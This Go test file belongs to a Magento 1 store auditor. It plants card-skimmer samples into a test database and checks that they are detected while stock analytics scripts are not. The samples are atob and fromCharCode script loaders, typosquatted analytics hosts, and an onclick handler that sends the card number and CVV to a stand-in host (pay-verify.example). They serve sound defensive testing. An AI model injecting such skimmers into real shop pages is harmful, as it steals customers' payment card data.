package m1audit

import (
	"context"
	"database/sql"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/mageflow/mageflow/internal/m1/m1audit/m1test"
)

// hexJS writes s as \xNN escapes, as skimmers hide card field names.
func hexJS(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, `\x%02x`, c)
	}
	return b.String()
}

// jsCharCodes writes s as a String.fromCharCode argument list.
func jsCharCodes(s string) string {
	var parts []string
	for _, c := range []byte(s) {
		parts = append(parts, fmt.Sprint(c))
	}
	return strings.Join(parts, ",")
}

// plantedSkimmer is one skimmer shape written into a database row: where it
// goes and the name its finding must carry.
type plantedSkimmer struct {
	kind, table, where, value, name string
}

// plantedDBSkimmers are the skimmer shapes of real Magento 1 incidents,
// written for this test: hex-encoded card field names, a script from a
// lookalike domain, atob and fromCharCode loaders, onclick exfiltration.
func plantedDBSkimmers() []plantedSkimmer {
	hexFields := `<script>var _f=["` + hexJS("cc_number") + `","` + hexJS("payment[cc_cid]") + `"];` +
		`document.addEventListener("change",function(){var v=document.getElementById(_f[0]).value;});</script>`
	atobLoader := `<div class="promo">Free shipping</div><script>var s=document.createElement('script');` +
		`s.src=atob('aHR0cHM6Ly9zdGF0aWMtYXNzZXRzLmV4YW1wbGUvbG9hZGVyLmpz');document.head.appendChild(s);</script>`
	ccLoader := `<script>var u=String.fromCharCode(` + jsCharCodes("https://cdn-stats.example/l.js") + `);` +
		`var s=document.createElement("script");s.src=u;document.body.appendChild(s);</script>`
	evalCC := `Madison Island</title><script>eval(String.fromCharCode(` + jsCharCodes("var x=document.forms[0];") + `))</script><title>`
	onclick := `<p>Review your order</p><button type="button" onclick="var i=new Image();i.src='https://pay-verify.example/c.gif?d='+` +
		`btoa(document.getElementById('cc_number').value+'|'+document.getElementById('cc_cid').value);review.save();">Place Order</button>`
	layoutXML := `<reference name="head"><block type="core/text" name="cdn"><action method="setText"><text><![CDATA[` +
		`<script src="https://ajax.jquery-cdn.example/jquery.min.js"></script>]]></text></action></block></reference>`
	return []plantedSkimmer{
		{"hex card fields", "cfg", "stores:1:design/head/includes", hexFields, "core_config_data[design/head/includes@stores:1]"},
		{"lookalike service", "cfg", "websites:1:design/footer/absolute_footer", `<script src="https://www.google-analytics.cm/analytics.js"></script>`, "core_config_data[design/footer/absolute_footer@websites:1]"},
		{"lookalike typo", "cfg", "default:0:design/head/default_description", `<script src="//googletagmanagr.com/gtm.js?id=GTM-1"></script>`, "core_config_data[design/head/default_description@default:0]"},
		{"eval fromCharCode in title", "cfg", "stores:2:design/head/default_title", evalCC, "core_config_data[design/head/default_title@stores:2]"},
		{"atob loader", "cms_block", "", atobLoader, "cms_block[2 promo_banner stores:1,2]"},
		{"fromCharCode loader", "cms_block", "", ccLoader, "cms_block[3 footer_extra stores:0 inactive]"},
		{"onclick exfiltration", "cms_page", "", onclick, "cms_page[2 checkout-help stores:0]"},
		{"lookalike in layout XML", "cms_page_layout", "", layoutXML, "cms_page[3 about-us stores:1].layout_update_xml"},
	}
}

// stockDBContent is what stock-looking stores keep in the same places:
// Google Analytics (classic and gtag), local scripts, onclick navigation.
var stockDBContent = struct{ head, footer, title, block, page string }{
	head: `<link rel="stylesheet" href="{{skin url='css/custom.css'}}"/><script type="text/javascript" src="/js/varien/menu.js"></script>` +
		`<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123"></script>` +
		`<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','G-ABC123');</script>`,
	footer: `<script type="text/javascript">(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();` +
		`a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','//www.google-analytics.com/analytics.js','ga');` +
		`ga('create','UA-0000000-1','auto');ga('send','pageview');</script>&copy; 2026 Shop. All Rights Reserved.`,
	title: "Madison Island",
	block: `<ul class="links"><li><a href="{{store url='checkout/cart'}}">Cart</a></li><li><a href="{{store url='checkout/onepage'}}">Checkout</a></li></ul>` +
		`<button class="button" onclick="setLocation('{{store url='checkout/onepage'}}')">Proceed to Checkout</button><script src="/js/prototype/prototype.js"></script>`,
	page: `<div class="page-title"><h1>Payment methods</h1></div><p>We accept Visa and Mastercard. Your card number and CVV are sent to the payment provider over HTTPS only.</p>` +
		`<a href="#" onclick="document.getElementById('faq').style.display='block';return false;">FAQ</a>`,
}

func insertCMS(t *testing.T, db *sql.DB, table, key, content, layout string, active int, stores ...int) {
	t.Helper()
	idCol := "block_id"
	if table == "cms_page" {
		idCol = "page_id"
		mustExec(t, db, "INSERT INTO cms_page (title, identifier, content, layout_update_xml, is_active) VALUES ('t', ?, ?, ?, ?)", key, content, layout, active)
	} else {
		mustExec(t, db, "INSERT INTO cms_block (title, identifier, content, is_active) VALUES ('t', ?, ?, ?)", key, content, active)
	}
	for _, s := range stores {
		mustExec(t, db, fmt.Sprintf("INSERT INTO %s_store (%s, store_id) SELECT MAX(%s), ? FROM %s", table, idCol, idCol, table), s)
	}
}

// TestDatabaseSkimmers plants skimmer shapes into core_config_data, CMS
// blocks and CMS pages of a real MariaDB and asserts each is found with
// its row, scope, rule and an excerpt; the stock-looking rows beside them
// (Google Analytics, local scripts) are never flagged high or critical.
func TestDatabaseSkimmers(t *testing.T) {
	m := m1test.StartMariaDB(t)
	db := m.CreateStore(t, "skim", "", "auditor", "audit-pw")
	for _, row := range [][3]string{
		{"default", "web/unsecure/base_url", "http://shop.example.com/"},
		{"default", "web/secure/base_url", "https://shop.example.com/"},
		{"default", "design/head/includes", stockDBContent.head},
		{"default", "design/footer/absolute_footer", stockDBContent.footer},
		{"default", "design/head/default_title", stockDBContent.title},
	} {
		mustExec(t, db, "INSERT INTO core_config_data (scope, scope_id, path, value) VALUES (?, 0, ?, ?)", row[0], row[1], row[2])
	}
	insertCMS(t, db, "cms_block", "footer_links", stockDBContent.block, "", 1, 0)
	insertCMS(t, db, "cms_page", "payment-info", stockDBContent.page, "", 1, 0)
	o := AuditOptions{Signatures: shipped(t), Now: func() time.Time { return fixedNow }, KnownAdmins: []string{"ann"},
		DB: &DBConfig{Socket: m.Socket, User: "auditor", Password: "audit-pw", Name: "skim"}}
	tg := targetFor(t.TempDir())

	// Stock content alone: nothing high or critical, no compromise.
	rs := dbChecks(context.Background(), tg, o)
	for _, id := range []string{CheckDBConfigScripts, CheckDBCMSContent} {
		r := resultByID(t, rs, id)
		if r.Compromise || r.Status == StatusFail || r.Status == StatusError {
			t.Errorf("stock content %s: %s compromise=%v %s", id, r.Status, r.Compromise, r.Evidence.Detail)
		}
		for _, f := range r.Evidence.Findings {
			if f.Severity == SeverityHigh || f.Severity == SeverityCritical {
				t.Errorf("stock content flagged %s: %+v", f.Severity, f)
			}
		}
	}

	plantSkimmers(t, db)
	rs = dbChecks(context.Background(), tg, o)
	var all []Finding
	for _, id := range []string{CheckDBConfigScripts, CheckDBCMSContent} {
		r := resultByID(t, rs, id)
		if r.Status != StatusFail || !r.Compromise || r.Fix == "" {
			t.Errorf("%s with skimmers: %s compromise=%v", id, r.Status, r.Compromise)
		}
		all = append(all, r.Evidence.Findings...)
	}
	for _, p := range plantedDBSkimmers() {
		f, ok := strongFinding(all, p.name)
		if !ok {
			t.Errorf("%s not found as high/critical at %s; findings there: %+v", p.kind, p.name, findingsAt(all, p.name))
			continue
		}
		if f.SignatureID == "" || f.Evidence == "" || len(f.Evidence) > 300 {
			t.Errorf("%s: finding must name its rule and a short excerpt: %+v", p.kind, f)
		}
	}
	// The stock rows stay below high even beside the skimmers.
	for _, name := range []string{"core_config_data[design/head/includes@default:0]", "core_config_data[design/footer/absolute_footer@default:0]", "cms_block[1 footer_links", "cms_page[1 payment-info"} {
		for _, f := range findingsAt(all, name) {
			if f.Severity == SeverityHigh || f.Severity == SeverityCritical {
				t.Errorf("stock row %s flagged %s: %+v", name, f.Severity, f)
			}
		}
	}
}

// plantSkimmers writes plantedDBSkimmers into the store; CMS rows get ids
// 2 and up (the stock rows are 1).
func plantSkimmers(t *testing.T, db *sql.DB) {
	t.Helper()
	keys := map[string]string{"atob loader": "promo_banner", "fromCharCode loader": "footer_extra", "onclick exfiltration": "checkout-help", "lookalike in layout XML": "about-us"}
	for _, p := range plantedDBSkimmers() {
		switch p.table {
		case "cfg":
			parts := strings.SplitN(p.where, ":", 3)
			mustExec(t, db, "INSERT INTO core_config_data (scope, scope_id, path, value) VALUES (?, ?, ?, ?)", parts[0], parts[1], parts[2], p.value)
		case "cms_block":
			stores, active := []int{1, 2}, 1
			if p.kind == "fromCharCode loader" {
				stores, active = []int{0}, 0
			}
			insertCMS(t, db, "cms_block", keys[p.kind], p.value, "", active, stores...)
		case "cms_page":
			insertCMS(t, db, "cms_page", keys[p.kind], p.value, "", 1, 0)
		case "cms_page_layout":
			insertCMS(t, db, "cms_page", keys[p.kind], "<p>About us</p>", p.value, 1, 1)
		}
	}
}

func findingsAt(fs []Finding, name string) []Finding {
	var out []Finding
	for _, f := range fs {
		if strings.HasPrefix(f.Path, name) {
			out = append(out, f)
		}
	}
	return out
}

func strongFinding(fs []Finding, name string) (Finding, bool) {
	for _, f := range fs {
		if f.Path == name && !f.NeedsPerson && (f.Severity == SeverityHigh || f.Severity == SeverityCritical) {
			return f, true
		}
	}
	return Finding{}, false
}

// TestLookalikeHosts pins which script hosts imitate a service or the
// store: typosquats and the name under another suffix do, the genuine
// domains and unrelated hosts do not.
func TestLookalikeHosts(t *testing.T) {
	own := []string{"shop.example.com"}
	for host, want := range map[string]string{
		"www.google-analytics.cm":       "google-analytics.com",
		"googletagmanagr.com":           "googletagmanager.com",
		"google-analytics.com.cdn.evil": "google-analytics.com",
		"ajax.jquery-cdn.example":       "jquery.com",
		"examp1e.com":                   "shop.example.com",
		"www.google-analytics.com":      "",
		"code.jquery.com":               "",
		"cdn.trusted.example":           "",
		"static.klaviyo.com":            "",
		"data:":                         "",
	} {
		if got, _ := lookalikeOf(host, own); got != want {
			t.Errorf("lookalikeOf(%q) = %q, want %q", host, got, want)
		}
	}
}

// FuzzDBContentChecks: the host and event-handler checks never panic, a
// genuine service domain (or a subdomain of it) is never its own lookalike,
// and handler findings name the value and keep a short excerpt.
func FuzzDBContentChecks(f *testing.F) {
	f.Add("www.google-analytics.cm", `<a onclick="new Image().src='https://x.example/?'+cc_number.value">x</a>`)
	f.Add("cdn.google-analytics.com", `<button onclick='fetch("//e.example",{body:cvv})'>`)
	f.Add("", `onclick="`)
	f.Fuzz(func(t *testing.T, host, html string) {
		if g, _ := lookalikeOf(host, []string{"shop.example.com"}); g != "" {
			if d, _ := registrable(host); d == g {
				t.Fatalf("%q reported as a lookalike of itself", host)
			}
		}
		for _, s := range impersonatedServices {
			if imitates("www."+s, s) {
				t.Fatalf("genuine %s flagged", s)
			}
		}
		for _, fd := range handlerFindings("v", []byte(html)) {
			if fd.Path != "v" || len(fd.Evidence) > 400 || fd.SignatureID != SigHandlerExfil {
				t.Fatalf("bad finding %+v", fd)
			}
		}
	})
}
